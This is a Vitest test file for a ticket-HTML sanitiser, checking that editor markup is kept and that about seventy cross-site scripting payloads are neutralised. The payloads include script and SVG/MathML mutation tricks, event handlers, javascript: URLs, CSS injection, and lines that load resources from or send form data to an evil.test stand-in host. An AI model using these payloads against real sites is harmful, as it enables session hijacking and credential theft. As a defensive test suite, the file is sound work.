/** Sanitising a ticket’s HTML: keeps the editor’s tags and removes everything that could run. */

import { describe, expect, it } from 'vitest';
import { sanitiseHtml } from './sanitise-html.ts';

describe('markup of the editor', () => {
  it.each([
    '<p>One</p><p>Two<br />three</p>',
    '<h1>A</h1><h2>B</h2><h3>C</h3><h4>D</h4><h5>E</h5><h6>F</h6>',
    '<p><strong>bold</strong> <em>italic</em> <u>under</u> <s>struck</s></p>',
    '<ul><li><p>One</p><ol><li><p>Two</p></li></ol></li></ul>',
    '<p style="text-align:center">middle</p><h2 style="text-align:right">right</h2>',
    '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2, “quoted” — ₹500, हिन्दी</p>',
    '<p></p>',
  ])('is kept: %s [api-raise_ticket-009]', (html) => {
    expect(sanitiseHtml(html)).toBe(html);
  });

  it.each([
    ['<p style="text-align: left;">x</p>', '<p style="text-align:left">x</p>'],
    [
      '<b>x</b><i>y</i><strike>z</strike><del>a</del><ins>b</ins>',
      '<strong>x</strong><em>y</em><s>z</s><s>a</s><u>b</u>',
    ],
    ['<div><p>One</p></div><table><tr><td>Two</td></tr></table>', '<p>One</p>Two'],
    ['<a href="https://example.in">a link</a> <span>and more</span> <p>x</p>', 'a link and more <p>x</p>'],
    ['plain text', '<p>plain text</p>'],
    ['one\r\ntwo\nthree & four', '<p>one</p><p>two</p><p>three &amp; four</p>'],
    ['1 < 2', '<p>1 &lt; 2</p>'],
    ['   ', ''],
  ])('is kept or normalised: %j becomes %j', (html, clean) => {
    expect(sanitiseHtml(html)).toBe(clean);
  });
});

/** Matches only the editor’s tags, with at most a text-align, and escaped text. */
const harmless =
  /^(?:[^<>]|<\/?(?:p|h[1-6]|strong|em|u|s|ul|ol|li)>|<br \/>|<(?:p|h[1-6]) style="text-align:(?:left|center|right)">)*$/;

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<script/x>alert(1)</script >',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<p\u000conclick=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<h1 id="x" class="y" data-z="1" contenteditable>x</h1>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<form action="https://evil.test"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<p style="background:url(https://evil.test/x)">x</p>',
  '<p style="text-align:center;position:fixed;inset:0">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<p style="text-align:center/**/;behavior:url(#x)">x</p>',
  '<p style="text-align:\\63 enter">x</p>',
  '<p style=\'text-align:center"onclick="alert(1)\'>x</p>',
  '<li style="text-align:center">x</li>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '</textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<p>--!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="<!--"><img src=x onerror=alert(1)>-->',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<<script>script>alert(1)<</script>/script>',
  '<p<script>alert(1)</script>',
  '<p',
  '<',
  '<\u0000script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)><html onclick=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p is="x-evil">x</p>',
  '<__proto__ onclick=alert(1)>x</__proto__>',
  '<p constructor=x __proto__=y>x</p>',
];

describe('an attack', () => {
  it.each(attacks)('leaves nothing that runs: %s [api-raise_ticket-009]', (html) => {
    const clean = sanitiseHtml(html);
    expect(clean).toMatch(harmless);
    expect(sanitiseHtml(clean)).toBe(clean);
  });

  it.each([
    ['deep nesting', '<ul><li>'.repeat(6_000)],
    ['deep nesting of what is dropped', '<svg>'.repeat(10_000)],
    ['many tags that never end', '<p '.repeat(16_000)],
    ['many styles', `<p style="${'text-align:center;'.repeat(2_700)}">x</p>`],
    ['many brackets', '<'.repeat(50_000)],
  ])('of %s is harmless as well', (_what, html) => {
    const clean = sanitiseHtml(html.slice(0, 50_000));
    expect(clean).toMatch(harmless);
  });
});
